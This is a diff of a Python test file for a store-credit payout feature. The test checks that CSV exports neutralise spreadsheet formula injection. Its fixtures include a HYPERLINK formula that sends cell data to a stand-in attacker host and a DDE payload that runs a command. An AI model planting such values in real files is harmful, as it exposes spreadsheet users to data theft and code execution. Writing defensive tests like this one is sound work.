@@ -30,6 +30,8 @@ from saleor_store_credit.reimbursement import (  # noqa: E402
     start_run,
 )
 
+from saleor_store_credit.payouts import set_payout_details  # noqa: E402
+
 from .test_checkout import fund, grant  # noqa: E402
 
 START = """
@@ -55,6 +57,10 @@ RUN = """
 query ($id: ID!) { reimbursementRun(id: $id) {
   id status progress { selected processed percent } payoutCount total { amount currency }
   payouts { id amount { amount } payeeEmail detailsMissing status } csv } }
+"""
+
+RUN_FULL_CSV = """
+query ($id: ID!) { reimbursementRun(id: $id) { csv(fullPayoutAccounts: true) } }
 """
 
 
@@ -92,8 +98,7 @@ def balance(user, currency="USD"):
 def test_preview_selects_balances_at_or_above_the_minimum(finance):
     low, exact, high = customers("4.99", "5.00", "20.00")
     customers("50.00", currency="EUR")
-    high.store_value_in_private_metadata({"store_credit.payout_account": "NL91ABNA0417164300"})
-    high.save(update_fields=["private_metadata"])
+    set_payout_details(user=high, account_number="NL91ABNA0417164300", actor=Actor.system())
 
     result = finance.query(PREVIEW, {"input": {"currency": "USD", "minimumAmount": "5"}})[
         "data"]["reimbursementRunPreview"]
@@ -277,16 +282,16 @@ def test_payout_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(f
     (user,) = customers("12.00")
     user.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     user.last_name = ""
-    user.store_value_in_private_metadata({"store_credit.payout_account": "+31-2+3"})
-    user.save(update_fields=["first_name", "last_name", "private_metadata"])
+    user.save(update_fields=["first_name", "last_name"])
+    set_payout_details(user=user, account_number="+31-2+3", actor=Actor.system())
     run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
     payout = Payout.objects.get(run_id=graphene.Node.from_global_id(run["id"])[1])
     resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system(),
                    reference="@SUM(1+1)*cmd|' /C calc'!A0")
     Payout.objects.filter(pk=payout.pk).update(payee_address="-1+2\n\tTab\n\rCR")
 
-    # when
-    view = finance.query(RUN, {"id": run["id"]})["data"]["reimbursementRun"]
+    # when (bank accounts in full: masked ones start with "****")
+    view = finance.query(RUN_FULL_CSV, {"id": run["id"]})["data"]["reimbursementRun"]
 
     # then every cell starting with = + - @ tab or CR is prefixed with a single quote
     (row,) = list(csv.DictReader(io.StringIO(view["csv"])))
